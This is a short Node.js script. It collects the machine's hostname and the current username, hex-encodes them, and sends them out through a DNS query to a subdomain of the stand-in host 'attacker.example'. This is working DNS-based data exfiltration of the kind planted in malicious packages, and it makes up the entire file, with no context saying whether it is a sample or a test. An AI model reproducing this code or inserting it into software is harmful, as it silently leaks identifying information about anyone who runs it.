const dns = require('dns');
const { hostname, userInfo } = require('os');
const data = Buffer.from(`${hostname()}.${userInfo().username}`).toString('hex');
dns.resolve(`${data}.x.attacker.example`, () => {});
